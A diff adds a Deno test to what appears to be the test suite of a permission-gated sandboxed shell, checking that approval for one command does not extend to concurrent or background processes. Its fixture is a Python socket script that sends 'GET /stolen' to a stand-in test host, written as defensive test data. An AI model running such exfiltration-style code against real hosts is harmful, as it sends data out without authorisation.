@@ -88,6 +88,46 @@ Deno.test("S35 a client without forms gets the sentence with the question for a 
   }, { takesForms: false });
 });
 
+/** Sends a request to a host and leaves, without waiting for anything; with a third argument it waits. */
+const LEAVING = `
+import os, socket, sys
+s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 70)
+s.sendall(b"GET /stolen HTTP/1.1\\r\\nHost: " + sys.argv[1].encode() + b"\\r\\n\\r\\n")
+if sys.argv[3:]: s.recv(100)
+os._exit(0)
+`;
+
+Deno.test("S35 what one command may this time is not for another beside it, or for what it leaves behind", async () => {
+  const answer: Answer = (message) => choosing(message.includes("first") ? "this time" : "no")(message);
+  await withAsking(answer, async ({ bench, client, connect, forms, greeter, port }) => {
+    bench.write("leaving.py", LEAVING);
+    const place = `one.example.test:${port}`;
+    const first = client.callTool({
+      name: "sandboxed_shell",
+      arguments: {
+        command: `: first; python3 client.py ${place}; touch begun; until [ -e go ]; do sleep 0.02; done; ` +
+          `python3 client.py ${place}; python3 leaving.py one.example.test ${port} wait`,
+      },
+    });
+    await bench.appears("begun");
+    await Promise.all(Array.from({ length: 5 }, () =>
+      client.callTool({
+        name: "sandboxed_shell",
+        arguments: {
+          command: `: other; for i in 1 2 3 4; do python3 leaving.py one.example.test ${port} & done; wait`,
+        },
+      })));
+    assert.match(await connect("one"), /was refused by the person who was asked/);
+    assert.deepStrictEqual(greeter.paths, []);
+    bench.write("go", "\n");
+    const { content } = await first;
+    assert.match(JSON.stringify(content), /HTTP\/1\.1 400 Bad Request\\nHTTP\/1\.1 400/);
+    // As a control: the command that was allowed sends the same while it has the connection.
+    assert.deepStrictEqual(greeter.paths, ["/stolen"]);
+    assert.equal(forms.length, 2);
+  });
+});
+
 Deno.test("S35 a wish is in our words: what a command is named stays inside its quotes", async () => {
   const seen = Promise.withResolvers<string>();
   const answer: Answer = (message) => {
